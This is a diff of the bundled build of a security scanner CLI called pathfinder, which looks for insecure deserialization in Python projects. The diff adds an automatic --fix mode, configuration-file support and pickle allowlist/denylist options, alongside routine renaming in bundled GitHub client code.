+  let oldCount = 0;
+  let newCount = 0;
+  const lines = [];
+  for (let i2 = from; i2 <= to; i2++) {
+    const op = ops[i2];
+    if (op.kind !== "+") oldCount++;
+    if (op.kind !== "-") newCount++;
+    lines.push(op.kind + op.text + (op.text.endsWith("\n") ? "" : "\n\\ No newline at end of file\n"));
+  }
+  const range = (start2, count) => count === 0 ? `${start2 - 1},0` : count === 1 ? `${start2}` : `${start2},${count}`;
+  return [`@@ -${range(oldStart, oldCount)} +${range(newStart, newCount)} @@
+`, ...lines];
+}
+
+// src/project/fix.ts
+function sourceDigest(bytes) {
+  return createHash("sha256").update(bytes).digest("hex");
+}
+function isFixable(f) {
+  return !f.suppressed && f.fix !== void 0 && f.fix.edits.length > 0;
+}
+async function applyFixes(findings, options) {
+  const result2 = { fixed: [], skipped: [], files: [], diff: "" };
+  const byFile = /* @__PURE__ */ new Map();
+  for (const f of findings.filter(isFixable)) {
+    const list = byFile.get(f.location.file) ?? [];
+    list.push(f);
+    byFile.set(f.location.file, list);
+  }
+  const target = resolve5(options.target);
+  const targetIsDir = (await stat3(target)).isDirectory();
+  const diffs = [];
+  for (const file of [...byFile.keys()].sort()) {
+    const list = byFile.get(file);
+    const skipAll = (reason2) => result2.skipped.push(...list.map((finding) => ({ finding, reason: reason2 })));
+    const abs = targetIsDir ? resolve5(target, file) : file === basename3(target) ? target : void 0;
+    const rel = abs && relative3(targetIsDir ? target : resolve5(target, ".."), abs);
+    if (!abs || !rel || rel.startsWith("..") || isAbsolute2(rel)) {
+      skipAll("the file is outside the scanned directory");
+      continue;
+    }
+    let bytes;
+    try {
+      bytes = await readFile4(abs);
+    } catch (e) {
+      skipAll(`cannot read the file: ${e.code ?? e.message}`);
+      continue;
+    }
+    const expected = options.scanned?.get(file);
+    if (expected !== void 0 && expected !== sourceDigest(bytes)) {
+      skipAll("the file changed since the scan; scan again");
+      continue;
+    }
+    const plan = planFileFixes(bytes, list);
+    result2.skipped.push(...plan.skipped);
+    if (!plan.output) continue;
+    if (!options.dryRun) {
+      try {
+        await writeFile2(abs, plan.output);
+      } catch (e) {
+        skipAll(`cannot write the file: ${e.code ?? e.message}`);
+        continue;
+      }
+    }
+    result2.fixed.push(...plan.fixed);
+    result2.files.push(file);
+    diffs.push(unifiedDiff(plan.codec.display(bytes), plan.codec.display(plan.output), { from: `a/${file}`, to: `b/${file}` }));
+  }
+  result2.diff = diffs.join("");
+  return result2;
+}
+function planFileFixes(bytes, findings) {
+  const codec = codecOf(bytes);
+  const plan = { fixed: [], skipped: [], codec };
+  if (typeof codec.problem === "string") {
+    plan.skipped.push(...findings.map((finding) => ({ finding, reason: codec.problem })));
+    return plan;
+  }
+  const source = new SourceLines(bytes, codec);
+  const accepted = [];
+  const ordered = [...findings].sort((a, b) => a.location.line - b.location.line || a.location.column - b.location.column);
+  for (const finding of ordered) {
+    const edits = byteEdits(finding, source);
+    if (typeof edits === "string") {
+      plan.skipped.push({ finding, reason: edits });
+      continue;
+    }
+    if (edits.every((e) => accepted.some((a) => sameEdit(a, e)))) {
+      plan.fixed.push(finding);
+      continue;
+    }
+    const clash = edits.find((e) => accepted.some((a) => overlaps(a, e)));
+    if (clash) {
+      const other = accepted.find((a) => overlaps(a, clash)).finding;
+      plan.skipped.push({ finding, reason: `its edit overlaps the fix of ${other.ruleId} at line ${other.location.line}; run --fix again` });
+      continue;
+    }
+    accepted.push(...edits);
+    plan.fixed.push(finding);
+  }
+  if (accepted.length) plan.output = splice(bytes, accepted);
+  return plan;
+}
+function byteEdits(finding, source) {
+  const loc = finding.location;
+  const lastSnippetLine = loc.line + loc.snippet.split("\n").length - 1;
+  if (source.text(loc.line, lastSnippetLine) !== loc.snippet) {
+    return `the code at line ${loc.line} no longer matches the scan; scan again`;
+  }
+  const out2 = [];
+  for (const edit of finding.fix.edits) {
+    const start2 = source.offset(edit.line, edit.column);
+    const end = source.offset(edit.endLine, edit.endColumn);
+    if (start2 === void 0 || end === void 0 || end < start2) return `its edit ${describe2(edit)} is outside the file`;
+    const bytes = source.codec.encode(source.crlf ? edit.newText.replace(/(?<!\r)\n/g, "\r\n") : edit.newText);
+    if (!bytes) return `its replacement text cannot be written in the file's encoding (${source.codec.name})`;
+    const e = { start: start2, end, bytes, finding };
+    if (out2.some((o) => overlaps(o, e))) return "its own edits overlap";
+    out2.push(e);
+  }
+  return out2;
+}
+function overlaps(a, b) {
+  if (a.start === b.start && (a.start === a.end || b.start === b.end)) return a.start === a.end && b.start === b.end;
+  return a.start < b.end && b.start < a.end;
+}
+function sameEdit(a, b) {
+  return a.start === b.start && a.end === b.end && Buffer.compare(a.bytes, b.bytes) === 0;
+}
+function splice(bytes, edits) {
+  const sorted = [...edits].sort((a, b) => a.start - b.start || a.end - b.end);
+  const parts2 = [];
+  let cursor = 0;
+  for (const e of sorted) {
+    parts2.push(bytes.subarray(cursor, e.start), e.bytes);
+    cursor = e.end;
+  }
+  parts2.push(bytes.subarray(cursor));
+  return Buffer.concat(parts2);
+}
+function describe2(e) {
+  return `${e.line}:${e.column}-${e.endLine}:${e.endColumn}`;
+}
+var SINGLE_BYTE = /^(windows-125\d|windows-874|iso-8859-\d+|koi8-[ru]|ibm866|macintosh|x-mac-cyrillic)$/;
+function codecOf(bytes) {
+  const declared = declaredEncoding(bytes);
+  let label = "utf-8";
+  if (declared && !/^utf-?8(-sig)?$/i.test(declared)) {
+    try {
+      label = new TextDecoder(declared).encoding;
+    } catch {
+    }
+  }
+  if (label === "utf-8") {
+    const bom = bytes[0] === 239 && bytes[1] === 187 && bytes[2] === 191 ? 3 : 0;
+    const strict = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true });
+    let problem2;
+    try {
+      strict.decode(bytes);
+    } catch {
+      problem2 = "the file is not valid UTF-8, so its columns cannot be mapped to bytes safely";
+    }
+    return {
+      name: "utf-8",
+      bom,
+      ...problem2 ? { problem: problem2 } : {},
+      decode: (b) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(b),
+      display: (b) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(b),
+      encode: (text) => new TextEncoder().encode(text),
+      byteLength: (text) => Buffer.byteLength(text, "utf8")
+    };
+  }
+  const decoder = new TextDecoder(label);
+  return {
+    name: label,
+    bom: 0,
+    ...SINGLE_BYTE.test(label) ? {} : { problem: `fixes are not applied to files in the ${label} encoding` },
+    decode: (b) => decoder.decode(b),
+    display: (b) => decoder.decode(b),
+    encode: (text) => /^[\x00-\x7f]*$/.test(text) ? Uint8Array.from(text, (c) => c.charCodeAt(0)) : void 0,
+    byteLength: (text) => text.length
+  };
+}
+var SourceLines = class {
+  constructor(bytes, codec) {
+    this.bytes = bytes;
+    this.codec = codec;
+    let start2 = codec.bom;
+    for (let i2 = start2; i2 <= bytes.length; i2++) {
+      if (i2 === bytes.length || bytes[i2] === 10) {
+        this.starts.push(start2);
+        this.ends.push(i2 > start2 && bytes[i2 - 1] === 13 ? i2 - 1 : i2);
+        start2 = i2 + 1;
+        if (i2 === bytes.length) break;
+      }
+    }
+    const firstBreak = bytes.indexOf(10);
+    this.crlf = firstBreak > 0 && bytes[firstBreak - 1] === 13;
+  }
+  bytes;
+  codec;
+  starts = [];
+  ends = [];
+  decoded = /* @__PURE__ */ new Map();
+  crlf;
+  /** The text of 1-based lines `from..to`, joined by `\n`, as the scanner's snippets hold them. */
+  text(from, to) {
+    if (from < 1 || to > this.starts.length) return void 0;
+    const lines = [];
+    for (let line = from; line <= to; line++) lines.push(this.line(line).replace(/\r/g, ""));
+    return lines.join("\n");
+  }
+  /** Byte offset of a 1-based line and UTF-16 column; undefined when outside the line. */
+  offset(line, column) {
+    if (!Number.isInteger(line) || !Number.isInteger(column) || line < 1 || line > this.starts.length || column < 1) return void 0;
+    const text = this.line(line);
+    if (column - 1 > text.length) return void 0;
+    const prefix = text.slice(0, column - 1);
+    if (/[\ud800-\udbff]$/.test(prefix)) return void 0;
+    return this.starts[line - 1] + this.codec.byteLength(prefix);
+  }
+  line(line) {
+    let text = this.decoded.get(line);
+    if (text === void 0) {
+      text = this.codec.decode(this.bytes.subarray(this.starts[line - 1], this.ends[line - 1]));
+      this.decoded.set(line, text);
+    }
+    return text;
+  }
+};
 
 // src/cli/scan-flags.ts
 import { existsSync as existsSync2 } from "node:fs";
-import { isAbsolute, join as join3, relative as relative2, resolve as resolve4 } from "node:path";
+import { isAbsolute as isAbsolute3, join as join6, relative as relative4, resolve as resolve6 } from "node:path";
 
 // src/cli/version.ts
-import { readFileSync } from "node:fs";
+import { readFileSync as readFileSync2 } from "node:fs";
 var cached2;
 function packageJson() {
   if (!cached2) {
     for (const rel of ["../../../package.json", "./package.json"]) {
       try {
-        cached2 = JSON.parse(readFileSync(new URL(rel, import.meta.url), "utf8"));
+        cached2 = JSON.parse(readFileSync2(new URL(rel, import.meta.url), "utf8"));
         break;
       } catch {
       }
@@ -10417,6 +18671,10 @@ var SCAN_FLAGS = {
   "max-file-size": { type: "string" },
   "show-suppressed": { type: "boolean" },
   jobs: { type: "string", short: "j" },
+  config: { type: "string" },
+  "no-config": { type: "boolean" },
+  "pickle-policy": { type: "string" },
+  "pickle-allow": { type: "string", multiple: true },
   verbose: { type: "boolean", short: "v" },
   quiet: { type: "boolean", short: "q" },
   help: { type: "boolean", short: "h" }
@@ -10425,8 +18683,9 @@ var SCAN_FLAGS_HELP = `
 Scan options:
   -p, --project DIR        Project directory to scan (default: current directory)
   [PATH ...]               Only scan these files or directories inside the project (pre-commit passes staged files)
-      --ruleset R          Rules to run; repeatable. python/<RULE-ID>, python/<bundle> or python/all
-                           (default: every Python rule). See: pathfinder rules list
+      --ruleset R          Rules to run; repeatable. python/<RULE-ID>, python/<bundle> or python/all;
+                           artifact/all or artifact/<PICKLE-ARTIFACT-ID> for model/data files
+                           (default: every rule). See: pathfinder rules list
   -o, --output FORMAT      text (default for scan), json, sarif, csv, gitlab-sast, codeclimate
   -f, --output-file FILE   Write the report to FILE instead of standard output
       --fail-on SEVERITIES Exit 1 when a finding is at or above the lowest severity listed,
@@ -10438,19 +18697,27 @@ Scan options:
       --max-file-size SIZE Skip files larger than SIZE (default 5MB; accepts B, KB, MB)
       --show-suppressed    Also list findings suppressed by inline comments
   -j, --jobs N             Worker threads (default: automatic; 0 = no workers)
+      --config FILE        Read settings from FILE (a pathfinder.toml, or a pyproject.toml with [tool.pathfinder]).
+                           Default: the nearest pathfinder.toml, .pathfinder.toml or pyproject.toml with
+                           [tool.pathfinder], looking in the project directory and then its parents
+      --no-config          Ignore every configuration file
+      --pickle-policy MODE Model/data files (.pkl, .pt, .joblib, .npy, ...): denylist (default) reports
+                           dangerous globals; allowlist also reports every global not known to be safe
+      --pickle-allow GLOBAL Trust a global in allowlist mode (module.Name or module.*); repeatable
   -v, --verbose            Print each warning and timing details on stderr
   -q, --quiet              No progress or summary on stderr
   -h, --help               Show this help`;
 var DEFAULT_MAX_FILE_SIZE = 5 * 1024 * 1024;
 function scanOptionsFrom(values, positionals, io) {
-  const project = resolve4(io.cwd, values.project ?? ".");
+  if (values.config !== void 0 && values["no-config"]) throw new CliUsageError("--config and --no-config cannot be used together");
+  const project = resolve6(io.cwd, values.project ?? ".");
   const include = [...values.include ?? []];
   for (const p of positionals) {
-    const fromCwd = isAbsolute(p) ? p : resolve4(io.cwd, p);
-    const abs = existsSync2(fromCwd) ? fromCwd : resolve4(project, p);
-    const rel = relative2(project, abs).split("\\").join("/");
+    const fromCwd = isAbsolute3(p) ? p : resolve6(io.cwd, p);
+    const abs = existsSync2(fromCwd) ? fromCwd : resolve6(project, p);
+    const rel = relative4(project, abs).split("\\").join("/");
     if (rel.startsWith("..")) throw new CliUsageError(`path "${p}" is outside the project directory ${project}`);
-    include.push(rel === "" ? "**" : rel, rel === "" ? "**" : join3(rel, "**").split("\\").join("/"));
+    include.push(rel === "" ? "**" : rel, rel === "" ? "**" : join6(rel, "**").split("\\").join("/"));
   }
   return {
     target: project,
@@ -10459,10 +18726,25 @@ function scanOptionsFrom(values, positionals, io) {
     exclude: values.exclude ?? [],
     skipTests: values["skip-tests"] ?? false,
     gitignore: !values["no-gitignore"],
-    maxFileSize: values["max-file-size"] !== void 0 ? parseSize(values["max-file-size"]) : DEFAULT_MAX_FILE_SIZE,
+    maxFileSize: values["max-file-size"] !== void 0 ? parseSize2(values["max-file-size"]) : DEFAULT_MAX_FILE_SIZE,
     jobs: values.jobs !== void 0 ? parseJobs(values.jobs) : void 0,
-    tool: toolInfo()
+    tool: toolInfo(),
+    config: loadConfig({ project, explicit: values.config, disabled: values["no-config"], cwd: io.cwd }),
+    pickle: pickleOptionsFrom(values)
   };
+}
+function pickleOptionsFrom(values) {
+  const policy = (values["pickle-policy"] ?? "denylist").toLowerCase();
+  if (policy !== "denylist" && policy !== "allowlist") {
+    throw new CliUsageError(`--pickle-policy: expected denylist or allowlist, got "${values["pickle-policy"]}"`);
+  }
+  const allowGlobals = (values["pickle-allow"] ?? []).flatMap((v) => v.split(",")).map((v) => v.trim()).filter(Boolean);
+  for (const global2 of allowGlobals) {
+    if (!/^[A-Za-z_][\w]*(\.[A-Za-z_][\w]*)*(\.\*)?$/.test(global2)) {
+      throw new CliUsageError(`--pickle-allow: "${global2}" is not a dotted global name (module.Name or module.*)`);
+    }
+  }
+  return { policy, allowGlobals };
 }
 function parseFailOn(value) {
   if (value === void 0) return void 0;
@@ -10473,7 +18755,7 @@ function parseFailOn(value) {
   }
   return [...SEVERITIES].reverse().find((s) => parts2.includes(s));
 }
-function parseSize(text) {
+function parseSize2(text) {
   const m = /^\s*(\d+(?:\.\d+)?)\s*(b|k|kb|kib|m|mb|mib|g|gb|gib)?\s*$/i.exec(text);
   if (!m) throw new CliUsageError(`--max-file-size: cannot read "${text}" (examples: 500000, 512KB, 5MB)`);
   const unit = (m[2] ?? "b").toLowerCase()[0];
@@ -10513,6 +18795,17 @@ var Progress = class {
 };
 
 // src/cli/commands/scan.ts
+var FIX_FLAGS = {
+  fix: { type: "boolean" },
+  "dry-run": { type: "boolean" }
+};
+var FIX_FLAGS_HELP = `
+Fix options:
+      --fix                Apply the automatic fixes some findings carry (e.g. yaml.load -> yaml.safe_load),
+                           then report the findings that remain. Files changed since the scan are left alone;
+                           overlapping fixes are skipped (run --fix again). What was fixed is listed on stderr
+      --dry-run            With --fix: print the changes as a unified diff on stdout and change nothing
+                           (the report is only written with --output-file)`;
 var scanCommand = {
   name: "scan",
   summary: "Scan a project for insecure deserialization",
@@ -10525,18 +18818,43 @@ Exit codes: 0 success (also with findings unless --fail-on), 1 a finding at or a
 Examples:
   pathfinder scan --ruleset python/PYTHON-LANG-SEC-040 --project .
   pathfinder scan -p . -o sarif -f results.sarif --fail-on high
-${SCAN_FLAGS_HELP}`,
+  pathfinder scan --fix --dry-run > fixes.diff
+  pathfinder scan --config ci/pathfinder.toml
+
+Configuration (pathfinder.toml, or [tool.pathfinder] in pyproject.toml):
+  exclude = ["legacy/**"]              # relative to the configuration file
+  disable = ["PYTHON-ML-SEC-001"]
+  [rules.PYTHON-LANG-SEC-040]          # [tool.pathfinder.rules.PYTHON-LANG-SEC-040] in pyproject.toml
+  extra-sinks = ["myapp.cache.load_blob"]
+  severity = "critical"
+${SCAN_FLAGS_HELP}
+${FIX_FLAGS_HELP}`,
   async run(argv, io) {
-    const { values, positionals } = parseArgs({ args: argv, options: SCAN_FLAGS, allowPositionals: true, strict: true });
+    const { values, positionals } = parseArgs({ args: argv, options: { ...SCAN_FLAGS, ...FIX_FLAGS }, allowPositionals: true, strict: true });
     if (values.help) {
       io.stdout.write(this.usage + "\n");
       return 0;
     }
+    if (values["dry-run"] && !values.fix) throw new CliUsageError("--dry-run only works together with --fix");
     const format = parseFormat(values.output, OUTPUT_FORMATS);
     const failOn = parseFailOn(values["fail-on"]);
     const options = scanOptionsFrom(values, positionals, io);
-    const report = await runScan(options, values, io);
+    const digests = /* @__PURE__ */ new Map();
+    if (values.fix) options.onSourceRead = (file, bytes) => digests.set(file.relPath, sourceDigest(bytes));
+    let report = await runScan(options, values, io);
     const toTerminal = !values["output-file"] || values["output-file"] === "-";
+    if (values.fix) {
+      const dryRun = values["dry-run"] ?? false;
+      const fixes = await applyFixes(report.findings, { target: report.scan.target, dryRun, scanned: digests });
+      reportFixes(fixes, dryRun, values.quiet ?? false, io);
+      if (dryRun) {
+        io.stdout.write(fixes.diff);
+      } else {
+        const fixed = new Set(fixes.fixed);
+        report = { ...report, findings: report.findings.filter((f) => !fixed.has(f)) };
+      }
+      if (dryRun && toTerminal) return exitCodeFor(report, failOn);
+    }
     const text = renderReport(format, report, {
       showSuppressed: values["show-suppressed"] ?? false,
       color: format === "text" && toTerminal && useColor(io.stdout, io.env),
@@ -10548,6 +18866,8 @@ ${SCAN_FLAGS_HELP}`,
   }
 };
 async function runScan(options, flags2, io) {
+  if (flags2.verbose) io.stderr.write(`pathfinder: ${options.config ? `configuration: ${options.config.file}` : "no configuration file"}
+`);
   const progress = new Progress(io, !flags2.quiet);
   progress.update("Discovering files...");
   const report = await scanProject({ ...options, onProgress: (done, total) => progress.update(`Analysing ${done}/${total} files`) });
@@ -10578,8 +18898,8 @@ function sourceLinesReader(root) {
   return (file) => {
     if (!cache.has(file)) {
       try {
-        const abs = statSync(root).isDirectory() ? join4(root, file) : root;
-        cache.set(file, readFileSync2(abs, "utf8").split(/\r?\n/));
+        const abs = statSync2(root).isDirectory() ? join7(root, file) : root;
+        cache.set(file, readFileSync3(abs, "utf8").split(/\r?\n/));
       } catch {
         cache.set(file, void 0);
       }
@@ -10592,9 +18912,26 @@ function reportWritten(report, file, io) {
   io.stderr.write(`pathfinder: ${s.total} finding${s.total === 1 ? "" : "s"} written to ${file}
 `);
 }
+function reportFixes(result2, dryRun, quiet, io) {
+  const where = (f) => sanitizeForTerminal(`${f.location.file}:${f.location.line}:${f.location.column} ${f.ruleId}`);
+  const verb = dryRun ? "would fix" : "fixed";
+  if (!quiet) for (const f of result2.fixed) io.stderr.write(`pathfinder: ${verb} ${where(f)}: ${f.fix.description}
+`);
+  for (const s of result2.skipped) io.stderr.write(`pathfinder: warning: not fixed ${where(s.finding)}: ${s.reason}
+`);
+  if (quiet) return;
+  const n = result2.fixed.length;
+  const files = result2.files.length;
+  const skipped = result2.skipped.length ? ` (${result2.skipped.length} not fixed)` : "";
+  io.stderr.write(
+    n ? `pathfinder: ${verb} ${n} finding${n === 1 ? "" : "s"} in ${files} file${files === 1 ? "" : "s"}${skipped}
+` : `pathfinder: no fixes to apply${skipped}
+`
+  );
+}
 
 // src/ci/baseline.ts
-import { readFile as readFile4, writeFile as writeFile2 } from "node:fs/promises";
+import { readFile as readFile5, writeFile as writeFile3 } from "node:fs/promises";
 var BASELINE_VERSION = 1;
 var BaselineError = class extends Error {
   name = "BaselineError";
@@ -10662,14 +18999,14 @@ function parseBaseline(text, source) {
 async function readBaseline(path) {
   let text;
   try {
-    text = await readFile4(path, "utf8");
+    text = await readFile5(path, "utf8");
   } catch (error) {
     throw new BaselineError(`cannot read baseline ${path}: ${error.code ?? error.message}`);
   }
   return parseBaseline(text, path);
 }
 async function writeBaseline(path, baseline) {
-  await writeFile2(path, serializeBaseline(baseline), "utf8");
+  await writeFile3(path, serializeBaseline(baseline), "utf8");
 }
 function applyBaseline(findings, baseline, source) {
   const known = new Set(baseline.fingerprints.map((entry) => entry.fingerprint));
@@ -10688,8 +19025,8 @@ import { createInterface } from "node:readline";
 var GIT_CONFIG = ["-c", "core.quotePath=false", "-c", "color.ui=false", "-c", "diff.noprefix=false"];
 var MAX_OUTPUT_BYTES = 64 * 1024 * 1024;
 var GitError = class extends Error {
-  constructor(message2, args2) {
-    super(message2);
+  constructor(message15, args2) {
+    super(message15);
     this.args = args2;
     this.name = "GitError";
   }
@@ -10699,7 +19036,7 @@ function gitEnv() {
   return { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0", LC_ALL: "C" };
 }
 function runGit(cwd, args2) {
-  return new Promise((resolve7, reject) => {
+  return new Promise((resolve9, reject) => {
     execFile(
       "git",
       [...GIT_CONFIG, ...args2],
@@ -10710,7 +19047,7 @@ function runGit(cwd, args2) {
           reject(new GitError(`git ${args2[0] ?? ""} failed: ${detail}`, args2));
           return;
         }
-        resolve7(stdout);
+        resolve9(stdout);
       }
     );
   });
@@ -10827,9 +19164,9 @@ async function readPatchSections(cwd, base, head) {
   child.stderr.on("data", (chunk) => {
     if (stderr.length < 4096) stderr += chunk;
   });
-  const exited = new Promise((resolve7, reject) => {
+  const exited = new Promise((resolve9, reject) => {
     child.on("error", reject);
-    child.on("close", (code4) => resolve7(code4 ?? 1));
+    child.on("close", (code4) => resolve9(code4 ?? 1));
   });
   const sections = await parsePatchStream(createInterface({ input: child.stdout, crlfDelay: Infinity }));
   const code3 = await exited;
@@ -10896,7 +19233,7 @@ function detailFromBody(data) {
 }
 function describeApiError(error, secrets) {
   const e = typeof error === "object" && error !== null ? error : { message: String(error) };
-  const message2 = typeof e.message === "string" ? e.message : String(error);
+  const message15 = typeof e.message === "string" ? e.message : String(error);
   let where = "";
   if (e.request && typeof e.request.method === "string" && typeof e.request.url === "string") {
     let path = e.request.url;
@@ -10907,7 +19244,7 @@ function describeApiError(error, secrets) {
     where = ` on ${e.request.method} ${path}`;
   }
   const status = typeof e.status === "number" ? `HTTP ${e.status}` : "request failed";
-  const firstLine = message2.split("\n")[0] ?? "";
+  const firstLine = message15.split("\n")[0] ?? "";
   return redact(`GitHub API ${status}${where}: ${firstLine}${detailFromBody(e.response?.data)}`, secrets);
 }
 
@@ -10964,8 +19301,8 @@ var RequestError = class extends Error {
    * Response object if a response was received
    */
   response;
-  constructor(message2, statusCode, options) {
-    super(message2, { cause: options.cause });
+  constructor(message15, statusCode, options) {
+    super(message15, { cause: options.cause });
     this.name = "HttpError";
     this.status = Number.parseInt(statusCode);
     if (Number.isNaN(this.status)) {
@@ -11643,7 +19980,7 @@ function expand(template, context) {
     return template.replace(/\/$/, "");
   }
 }
-function parse(options) {
+function parse2(options) {
   let method = options.method.toUpperCase();
   let url = (options.url || "/").replace(/:([a-z]\w+)/g, "{$1}");
   let headers = Object.assign({}, options.headers);
@@ -11707,19 +20044,19 @@ function parse(options) {
   );
 }
 function endpointWithDefaults(defaults, route, options) {
-  return parse(merge(defaults, route, options));
+  return parse2(merge(defaults, route, options));
 }
 function withDefaults(oldDefaults, newDefaults) {
   const DEFAULTS2 = merge(oldDefaults, newDefaults);
-  const endpoint2 = endpointWithDefaults.bind(null, DEFAULTS2);
-  return Object.assign(endpoint2, {
+  const endpoint22 = endpointWithDefaults.bind(null, DEFAULTS2);
+  return Object.assign(endpoint22, {
     DEFAULTS: DEFAULTS2,
     defaults: withDefaults.bind(null, DEFAULTS2),
     merge: merge.bind(null, DEFAULTS2),
-    parse
+    parse: parse2
   });
 }
-var endpoint = withDefaults(null, DEFAULTS);
+var endpoint2 = withDefaults(null, DEFAULTS);
 
 // ../../main/node_modules/content-type/dist/index.js
 var SP = 32;
@@ -11762,7 +20099,7 @@ var NullObject = /* @__PURE__ */ (() => {
   C2.prototype = /* @__PURE__ */ Object.create(null);
   return C2;
 })();
-function parse2(header, options) {
+function parse3(header, options) {
   const stopFlags = SEMI_FLAG | (options?.comma === true ? COMMA_FLAG : 0);
   const len = header.length;
   let valueStart = options?.start ?? 0;
@@ -12285,22 +20622,22 @@ async function fetchWrapper(requestOptions) {
       ...requestOptions.body && { duplex: "half" }
     });
   } catch (error) {
-    let message2 = "Unknown Error";
+    let message15 = "Unknown Error";
     if (error instanceof Error) {
       if (error.name === "AbortError") {
         error.status = 500;
         throw error;
       }
-      message2 = error.message;
+      message15 = error.message;
       if (error.name === "TypeError" && "cause" in error) {
         if (error.cause instanceof Error) {
-          message2 = error.cause.message;
+          message15 = error.cause.message;
         } else if (typeof error.cause === "string") {
-          message2 = error.cause;
+          message15 = error.cause;
         }
       }
     }
-    const requestError = new RequestError(message2, 500, {
+    const requestError = new RequestError(message15, 500, {
       request: requestOptions
     });
     requestError.cause = error;
@@ -12359,7 +20696,7 @@ async function getResponseData(response) {
   if (!contentType) {
     return response.text().catch(noop2);
   }
-  const mimetype = parse2(contentType);
+  const mimetype = parse3(contentType);
   if (isJSONResponse(mimetype)) {
     let text = "";
     try {
@@ -12398,29 +20735,29 @@ function toErrorMessage(data) {
   return `Unknown error: ${JSON.stringify(data)}`;
 }
 function withDefaults2(oldEndpoint, newDefaults) {
-  const endpoint2 = oldEndpoint.defaults(newDefaults);
+  const endpoint22 = oldEndpoint.defaults(newDefaults);
   const newApi = function(route, parameters) {
-    const endpointOptions = endpoint2.merge(route, parameters);
+    const endpointOptions = endpoint22.merge(route, parameters);
     if (!endpointOptions.request || !endpointOptions.request.hook) {
-      return fetchWrapper(endpoint2.parse(endpointOptions));
+      return fetchWrapper(endpoint22.parse(endpointOptions));
     }
     const request2 = (route2, parameters2) => {
       return fetchWrapper(
-        endpoint2.parse(endpoint2.merge(route2, parameters2))
+        endpoint22.parse(endpoint22.merge(route2, parameters2))
       );
     };
     Object.assign(request2, {
-      endpoint: endpoint2,
-      defaults: withDefaults2.bind(null, endpoint2)
+      endpoint: endpoint22,
+      defaults: withDefaults2.bind(null, endpoint22)
     });
     return endpointOptions.request.hook(request2, endpointOptions);
   };
   return Object.assign(newApi, {
-    endpoint: endpoint2,
-    defaults: withDefaults2.bind(null, endpoint2)
+    endpoint: endpoint22,
+    defaults: withDefaults2.bind(null, endpoint22)
   });
 }
-var request = withDefaults2(endpoint, defaults_default);
+var request = withDefaults2(endpoint2, defaults_default);
 
 // ../../main/node_modules/@octokit/graphql/dist-bundle/index.js
 var VERSION5 = "0.0.0-development";
@@ -12534,8 +20871,8 @@ function withCustomRequest(customRequest) {
 
 // ../../main/node_modules/@octokit/auth-token/dist-bundle/index.js
 var b64url = "(?:[a-zA-Z0-9_-]+)";
-var sep2 = "\\.";
-var jwtRE = new RegExp(`^${b64url}${sep2}${b64url}${sep2}${b64url}$`);
+var sep3 = "\\.";
+var jwtRE = new RegExp(`^${b64url}${sep3}${b64url}${sep3}${b64url}$`);
 var isJWT = jwtRE.test.bind(jwtRE);
 async function auth(token) {
   const isApp = isJWT(token);
@@ -12555,12 +20892,12 @@ function withAuthorizationPrefix(token) {
   return `token ${token}`;
 }
 async function hook(token, request2, route, parameters) {
-  const endpoint2 = request2.endpoint.merge(
+  const endpoint3 = request2.endpoint.merge(
     route,
     parameters
   );
-  endpoint2.headers.authorization = withAuthorizationPrefix(token);
-  return request2(endpoint2);
+  endpoint3.headers.authorization = withAuthorizationPrefix(token);
+  return request2(endpoint3);
 }
 var createTokenAuth = function createTokenAuth2(token) {
   if (!token) {
@@ -15155,8 +23492,8 @@ var endpoints_default = Endpoints;
 // ../../main/node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/endpoints-to-methods.js
 var endpointMethodsMap = /* @__PURE__ */ new Map();
 for (const [scope, endpoints] of Object.entries(endpoints_default)) {
-  for (const [methodName, endpoint2] of Object.entries(endpoints)) {
-    const [route, defaults, decorations] = endpoint2;
+  for (const [methodName, endpoint3] of Object.entries(endpoints)) {
+    const [route, defaults, decorations] = endpoint3;
     const [method, url] = route.split(/ /);
     const endpointDefaults = Object.assign(
       {
@@ -15306,7 +23643,7 @@ var Octokit2 = Octokit.plugin(requestLog, legacyRestEndpointMethods, paginateRes
 var PathfinderOctokit = Octokit2.plugin(retry, throttling);
 function createGitHubClient(options) {
   const secrets = [options.token];
-  const say = (message2) => options.warn(redact(String(message2), secrets));
+  const say = (message15) => options.warn(redact(String(message15), secrets));
   const retries = options.rateLimitRetries ?? 2;
   const onLimit = (retryAfter, request2, _octokit, retryCount) => {
     say(`GitHub rate limit on ${request2.method} ${request2.url}; ${retryCount < retries ? `retrying in ${retryAfter}s` : "giving up"}`);
@@ -15334,12 +23671,12 @@ function createGitHubClient(options) {
 }
 
 // src/ci/github/context.ts
-import { readFileSync as readFileSync3 } from "node:fs";
+import { readFileSync as readFileSync4 } from "node:fs";
 var DEFAULT_API_URL = "https://api.github.com";
 function readEvent(path) {
   if (!path) return void 0;
   try {
-    const data = JSON.parse(readFileSync3(path, "utf8"));
+    const data = JSON.parse(readFileSync4(path, "utf8"));
     return typeof data === "object" && data !== null ? data : void 0;
   } catch {
     return void 0;
@@ -15406,13 +23743,13 @@ function severityCounts(findings) {
 function plural2(count, word) {
   return `${count} ${word}${count === 1 ? "" : "s"}`;
 }
-function ruleDocsUrl(informationUri, ruleId) {
+function ruleDocsUrl(informationUri, ruleId2) {
   if (!informationUri) return void 0;
-  return `${informationUri.replace(/\/+$/, "")}/rules/${encodeURIComponent(ruleId)}`;
+  return `${informationUri.replace(/\/+$/, "")}/rules/${encodeURIComponent(ruleId2)}`;
 }
-function ruleLink(informationUri, ruleId) {
-  const url = ruleDocsUrl(informationUri, ruleId);
-  return url ? `[${cell(ruleId)}](${url})` : code2(ruleId);
+function ruleLink(informationUri, ruleId2) {
+  const url = ruleDocsUrl(informationUri, ruleId2);
+  return url ? `[${cell(ruleId2)}](${url})` : code2(ruleId2);
 }
 function cweUrl(cwe) {
   const number = /^CWE-(\d+)$/i.exec(cwe)?.[1];
@@ -15485,8 +23822,8 @@ function renderInlineComment(finding, rule, informationUri) {
   ];
   const why = rule?.docs.securityImplications || rule?.docs.description;
   if (why) out2.push("", `**Why this is dangerous:** ${why}`);
-  const fix = rule?.docs.howToFix || rule?.docs.fixHint;
-  if (fix) out2.push("", `**How to fix:** ${fix}`);
+  const fix2 = rule?.docs.howToFix || rule?.docs.fixHint;
+  if (fix2) out2.push("", `**How to fix:** ${fix2}`);
   const tags = [
     ...finding.cwe.map((c) => {
